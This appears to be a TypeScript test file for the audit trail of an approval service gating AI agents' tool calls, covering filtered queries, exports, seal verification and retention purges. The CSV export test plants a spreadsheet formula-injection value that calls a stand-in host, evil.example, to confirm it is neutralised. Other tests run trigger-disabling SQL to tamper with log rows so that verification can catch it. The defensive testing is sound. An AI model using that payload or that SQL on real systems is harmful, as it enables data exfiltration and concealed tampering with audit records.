// The trail as programs read it: narrowed, exported, verified, held against a seal that was kept elsewhere; and what is
// over for long enough, archived and purged.
import { createHash } from 'node:crypto';
import { mkdtemp, readFile } from 'node:fs/promises';
import http from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type { Server } from '../../support/server';
import { expect, test } from '../../support/test';
import { API, approve, ask, claim, leaksOf, park, reject, report, times } from './kit';
import type { Json } from './kit';

const EVENTS = `${API}/events`;
const RETENTION = `${API}/retention`;
const NDJSON = { accept: 'application/x-ndjson' };

const administrator = (server: Server) => server.token(`admin-${Math.random()}`, ['admin', 'audit:read'], 'admin');
const lines = (text: string): Json[] => text.trim().split('\n').filter(Boolean).map((line) => JSON.parse(line));
const sealsAge = (server: Server, days: number) =>
  server.sql(`ALTER TABLE event_seals DISABLE TRIGGER USER;
    UPDATE event_seals SET sealed_at = sealed_at - interval '${days} days';
    ALTER TABLE event_seals ENABLE TRIGGER USER`);

test('the trail is narrowed by what happened, to what, by whom and when', async ({ server, agent, person }) => {
  const token = person.token!;
  const one = await park(server, agent.token!, { tool_name: 'narrowed' });
  const other = await park(server, agent.token!, { tool_name: 'narrowed' });
  await approve(server, token, one.id);
  await reject(server, token, other.id, 'not this one');
  const kinds = async (query: string) => {
    const page = await ask(server, 'GET', `${EVENTS}?sort=seq&${query}`, { token });
    expect(page.status, page.text).toBe(200);
    return page.data.map((event: Json) => event.event_type);
  };
  expect(await kinds(`action_id=${one.id}`)).toEqual(['action_parked', 'action_approved']);
  expect(await kinds('tool_name=narrowed&actor=human:admin')).toEqual(['action_approved', 'action_rejected']);
  expect(await kinds('tool_name=narrowed&event_type=action_parked,action_rejected')).toEqual(['action_parked', 'action_parked', 'action_rejected']);
  expect(await kinds(`tool_name=narrowed&until=${one.requested_at}`)).toEqual(['tool_registered']);
  expect(await kinds(`tool_name=narrowed&event_type=action_rejected&since=${one.requested_at}`)).toHaveLength(1);

  const first = await ask(server, 'GET', `${EVENTS}?tool_name=narrowed&limit=3`, { token });
  expect(first.json.meta).toMatchObject({ total: null, limit: 3, has_more: true });
  const rest = await ask(server, 'GET', `${EVENTS}?tool_name=narrowed&limit=3&cursor=${first.json.meta.next_cursor}`, { token });
  const seqs = [...first.data, ...rest.data].map((event: Json) => event.seq);
  expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
  expect([seqs.length, rest.json.meta.has_more]).toEqual([5, false]);

  for (const wrong of ['event_type=parked', 'actor=ana', 'colour=red', 'since=2026-11-25', 'cursor=7', 'limit=0', 'sort=up']) {
    const refused = await ask(server, 'GET', `${EVENTS}?${wrong}`, { token });
    expect([refused.status, refused.code, refused.json.errors[0].pointer], wrong).toEqual([422, 'invalid_request', wrong.split('=')[0]]);
  }
  const closed = await ask(server, 'GET', EVENTS, { token: agent.token });
  expect([closed.status, closed.code]).toEqual([403, 'forbidden']);
});

test('one entry comes with its hash, its seal and whether it verifies', async ({ server, agent, person }) => {
  const token = person.token!;
  const action = await park(server, agent.token!);
  const [event] = (await ask(server, 'GET', `${EVENTS}?action_id=${action.id}`, { token })).data;
  await expect.poll(async () => (await ask(server, 'GET', `${EVENTS}/${event.seq}`, { token })).data.seal_number, { timeout: 10_000 }).toBeGreaterThan(0);
  const shown = await ask(server, 'GET', `${EVENTS}/${event.event_id}`, { token });
  expect(shown.data).toMatchObject({ ...event, verifies: true, url: `${server.url}/audit/${event.seq}` });
  await server.sql(`ALTER TABLE approval_events DISABLE TRIGGER USER; UPDATE approval_events SET actor = 'human:eve' WHERE seq = ${event.seq}`);
  expect((await ask(server, 'GET', `${EVENTS}/${event.seq}`, { token })).data.verifies).toBe(false);
  const verified = await ask(server, 'GET', `${EVENTS}/verify`, { token });
  expect(verified.data).toMatchObject({ whole: false, fault_count: 1, faults: [`entry ${event.seq} was changed`] });
  await server.sql(`UPDATE approval_events SET actor = '${event.actor}' WHERE seq = ${event.seq}; ALTER TABLE approval_events ENABLE TRIGGER USER`);
  for (const nothing of ['0', '999999', 'x', '00000000-0000-7000-8000-000000000000']) {
    expect((await ask(server, 'GET', `${EVENTS}/${nothing}`, { token })).status, nothing).toBe(404);
  }
});

test('verification tells how far it is, and last what it found', async ({ server, person }) => {
  const streamed = await ask(server, 'GET', `${EVENTS}/verify`, { token: person.token, headers: NDJSON });
  expect(streamed.headers['content-type']).toBe('application/x-ndjson');
  const told = lines(streamed.text);
  expect(told.at(-2).progress).toMatchObject({ faults: 0 });
  expect(told.at(-1).data).toMatchObject({ whole: true, faults: [], unsealed: 0, events: told.at(-2).progress.events });
  const plain = await ask(server, 'GET', `${EVENTS}/verify`, { token: person.token });
  expect(plain.data.through_seq).toBeGreaterThan(0);
  const half = await ask(server, 'GET', `${EVENTS}/verify?against_number=1`, { token: person.token });
  expect([half.status, half.code]).toEqual([422, 'invalid_request']);
});

// show-43
test('an export holds what the filter holds, and a spreadsheet runs nothing of it', async ({ server, agent, person }) => {
  const token = person.token!;
  const ids = await Promise.all(times(5).map(async () => (await park(server, agent.token!, { tool_name: '+exported' })).id));
  for (const id of ids) await reject(server, token, id, '=HYPERLINK("https://evil.example/?q="&A1)\u202e');
  const narrowed = 'event_type=action_rejected&tool_name=%2Bexported';
  const ndjson = await ask(server, 'GET', `${EVENTS}/export?format=ndjson&${narrowed}`, { token });
  expect(ndjson.headers['content-disposition']).toBe('attachment; filename="events.ndjson"');
  const listed = await ask(server, 'GET', `${EVENTS}?${narrowed}`, { token });
  expect(lines(ndjson.text)).toEqual(listed.data);
  const csv = await ask(server, 'GET', `${EVENTS}/export?format=csv&${narrowed}`, { token });
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  const rows = csv.text.trim().split('\r\n');
  expect(rows).toHaveLength(6);
  for (const row of rows.slice(1)) {
    expect(row).toContain(`"'=HYPERLINK(`);
    expect(row).toContain(`'+exported`);
    expect(row).not.toMatch(/(^|,)"?[=+@\t\r]/);
    expect(row).not.toContain('\u202e');
  }
  for (const wrong of ['format=xls', 'limit=5', 'cursor=e1']) {
    expect((await ask(server, 'GET', `${EVENTS}/export?${wrong}`, { token })).status, wrong).toBe(422);
  }
  const byCommand = await server.command('audit', 'export', '--filter', narrowed);
  expect(lines(byCommand)).toEqual(listed.data);
});

test('an export that is cut off does not look whole', async ({ server, person }) => {
  await server.sql(`INSERT INTO approval_events (event_id, event_type, actor, event_metadata, occurred_at, content_hash)
    SELECT gen_random_uuid(), 'signed_out', 'human:zoe', jsonb_build_object('pad', repeat('x', 900)), now(), repeat('0', 64) FROM generate_series(1, 60000)`);
  for (const format of ['ndjson', 'csv']) {
    const { text, whole } = await new Promise<{ text: string; whole: boolean }>((resolve, reject) => {
      const headers = { authorization: `Bearer ${person.token}` };
      const path = `${EVENTS}/export?format=${format}&actor=human:zoe`;
      http.get(new URL(path, server.url), { headers, agent: false }, async (response) => {
        let text = '';
        response.setEncoding('utf8');
        // A reader who is slow: the server is in the middle of it when its database goes.
        response.once('data', () => {
          response.pause();
          void server.sql(`ALTER TABLE approval_events RENAME TO approval_events_away`).then(() => response.resume());
        });
        response.on('data', (piece: string) => (text += piece));
        response.on('end', () => resolve({ text, whole: response.complete }));
        response.on('error', () => resolve({ text, whole: false }));
      }).on('error', reject);
    });
    await server.sql(`ALTER TABLE approval_events_away RENAME TO approval_events`);
    expect(whole, format).toBe(false);
    expect(text.trim().split('\n').at(-1), format).toMatch(format === 'csv' ? /^CUT OFF,"This file is not whole/ : /^\{"error":/);
    expect(text.split('\n').length).toBeLessThan(60_000);
  }
  await server.sql(`ALTER TABLE approval_events DISABLE TRIGGER USER; DELETE FROM approval_events WHERE actor = 'human:zoe';
    ALTER TABLE approval_events ENABLE TRIGGER USER`);
});

test('a tail that was cut off is found with a seal that was kept elsewhere', async ({ server, agent, person }) => {
  const elsewhere = await mkdtemp(join(tmpdir(), 'countersign-kept-'));
  const file = join(elsewhere, 'seal.json');
  await park(server, agent.token!);
  expect(await server.command('audit', 'seal', file)).toContain('Keep it elsewhere');
  const kept = JSON.parse(await readFile(file, 'utf8'));
  const newest = (await ask(server, 'GET', `${EVENTS}/seal`, { token: person.token })).data;
  expect(newest.number).toBeGreaterThanOrEqual(kept.number);
  expect(await server.command('audit', 'verify', '--against', file)).toContain('holds the seal that was kept');
  await server.stop();
  await server.begin();
  await server.sql(`ALTER TABLE approval_events DISABLE TRIGGER USER; ALTER TABLE event_seals DISABLE TRIGGER USER;
    DELETE FROM unsealed_events;
    DELETE FROM approval_events WHERE seq NOT IN (SELECT unnest(event_seqs) FROM event_seals WHERE number < ${kept.number});
    DELETE FROM event_seals WHERE number >= ${kept.number};
    ALTER TABLE approval_events ENABLE TRIGGER USER; ALTER TABLE event_seals ENABLE TRIGGER USER`);
  expect(await server.command('audit', 'verify')).toContain('The trail is whole.');
  const found = await server.command('audit', 'verify', '--against', file).catch((error) => `${error.stdout}${error.stderr}`);
  expect(found).toContain('the end of the trail was cut off');
  const query = `against_number=${kept.number}&against_sha256=${kept.seal_sha256}`;
  const asked = await ask(server, 'GET', `${EVENTS}/verify?${query}`, { token: person.token });
  expect(asked.data.whole).toBe(false);
});

// leak-55
test('a run counts, archives, purges and is proved; no secret is in an archive or an export', async ({ server, agent, person, worker }) => {
  const token = person.token!;
  const admin = await administrator(server);
  const secret = 'Canary7ArchiveX9q';
  const args = { to: 'ana@example.com', config: { password: secret }, n: '1e3' };
  const old = await park(server, agent.token!, { tool_name: 'kept', tool_args: args, agent_summary: `with ${secret}`, why: `password=${secret}` });
  await reject(server, token, old.id, `do not use ${secret}`);
  const run = await park(server, agent.token!, { tool_name: 'kept', tool_args: args });
  await approve(server, token, run.id, { note: `password=${secret}` });
  const claimed = await claim(server, worker.token!, ['kept']);
  await report(server, worker.token!, claimed.data.attempt, { success: true, result: { echo: secret } });
  await server.sql(`UPDATE pending_actions SET decided_at = decided_at - interval '181 days', executed_at = executed_at - interval '181 days' WHERE tool_name = 'kept'`);
  await server.command('audit', 'verify');
  await sealsAge(server, 366);
  const young = await park(server, agent.token!, { tool_name: 'young' });

  const dry = await ask(server, 'POST', `${RETENTION}/run`, { token: admin, body: { dry_run: true } });
  expect([dry.status, dry.data]).toEqual([200, expect.objectContaining({ dry_run: true, actions: 2, attempts: 1 })]);
  expect(await server.command('retention', 'run', '--dry-run')).toContain(`2 actions with 1 attempts, and ${dry.data.events} entries`);
  expect((await ask(server, 'POST', `${RETENTION}/run`, { token, body: {} })).code).toBe('forbidden');
  const begun = await ask(server, 'POST', `${RETENTION}/run`, { token: admin, body: {} });
  expect([begun.status, begun.data.state]).toEqual([202, 'started']);
  await expect.poll(async () => (await ask(server, 'GET', `${RETENTION}/runs/${begun.data.id}`, { token })).data.state, { timeout: 20_000 }).toBe('done');
  const done = (await ask(server, 'GET', RETENTION, { token })).data;
  expect(done).toMatchObject({ decided_days: 90, executed_days: 180, events_days: 365, every_days: 7 });
  expect(done.runs[0]).toMatchObject({ actions_purged: 2, attempts_purged: 1, events_purged: dry.data.events, trouble: null });
  expect((await ask(server, 'GET', `${API}/actions/${old.id}`, { token })).status).toBe(404);
  expect((await ask(server, 'GET', `${API}/actions/${young.id}`, { token })).status).toBe(200);
  expect(await server.sql(`SELECT count(*) FROM idempotency_keys WHERE subject_id = '${old.id}'`)).toBe('0');

  const seen = new Map<string, string>();
  for (const archive of done.runs[0].archives) {
    const file = await ask(server, 'GET', `${RETENTION}/archives/${archive.id}`, { token });
    const digest = createHash('sha256').update(file.text);
    expect(file.headers['x-checksum-sha256']).toBe(archive.sha256);
    expect(file.headers['repr-digest']).toBe(`sha-256=:${digest.copy().digest('base64')}:`);
    expect(digest.digest('hex')).toBe(archive.sha256);
    const entries = lines(file.text).filter((line) => line.seal === undefined);
    expect(entries).toHaveLength(archive.entries);
    seen.set(archive.kind, file.text);
    expect((await ask(server, 'GET', `${RETENTION}/archives/${archive.id}`, { token: agent.token })).status).toBe(403);
  }
  expect(seen.get('actions')).toContain('ana@example.com');
  seen.set('the NDJSON export', (await ask(server, 'GET', `${EVENTS}/export`, { token })).text);
  seen.set('the CSV export', (await ask(server, 'GET', `${EVENTS}/export?format=csv`, { token })).text);
  expect(leaksOf([secret], seen)).toEqual([]);

  const told = (await ask(server, 'GET', `${EVENTS}?event_type=retention_run`, { token })).data[0];
  expect(told.event_metadata.archives.map((archive: Json) => archive.sha256).sort()).toEqual(done.runs[0].archives.map((archive: Json) => archive.sha256).sort());
  expect(await server.command('audit', 'verify', '--archives')).toContain('The trail is whole.');
  const verified = await ask(server, 'GET', `${EVENTS}/verify?archives=true`, { token });
  expect(verified.data).toMatchObject({ whole: true, purged: dry.data.events });
  const first = await server.sql('SELECT event_seqs[1] FROM event_seals WHERE number = 1');
  const gone = await ask(server, 'GET', `${EVENTS}/${first}`, { token });
  expect([gone.status, gone.json.detail]).toEqual([404, expect.stringContaining('was archived in')]);
});

test('a server that is killed in the middle of a run goes on with it', async ({ server, agent, person }) => {
  const admin = await administrator(server);
  const ids = await Promise.all(times(40).map(async () => (await park(server, agent.token!, { tool_name: 'many' })).id));
  await ask(server, 'POST', `${API}/actions/bulk`, { token: person.token, body: { decision: 'reject', ids, reason: 'old' } });
  await server.sql(`UPDATE pending_actions SET decided_at = decided_at - interval '91 days' WHERE tool_name = 'many'`);
  const begun = await ask(server, 'POST', `${RETENTION}/run`, { token: admin, body: {} });
  expect(begun.status).toBe(202);
  await server.kill();
  await server.begin();
  const state = async () => (await ask(server, 'GET', `${RETENTION}/runs/${begun.data.id}`, { token: admin })).data;
  await expect.poll(async () => (await state()).state, { timeout: 30_000 }).toBe('done');
  expect((await state()).actions_purged).toBe(40);
  expect(await server.sql(`SELECT count(*) FROM pending_actions WHERE tool_name = 'many'`)).toBe('0');
  const last = await park(server, agent.token!, { tool_name: 'many' });
  await reject(server, person.token!, last.id);
  await server.sql(`UPDATE pending_actions SET decided_at = decided_at - interval '91 days' WHERE id = '${last.id}'`);
  await sealsAge(server, 366);
  const byCommand = await server.command('retention', 'run');
  expect(byCommand).toMatch(/^Archived and purged: 1 actions with 0 attempts, and [1-9]\d* entries of the trail\.\n[0-9a-f]{64} {2}\S+-actions-\S+\n[0-9a-f]{64} {2}\S+-events-/);
  expect(await server.command('audit', 'verify', '--archives')).toContain('The trail is whole.');
});
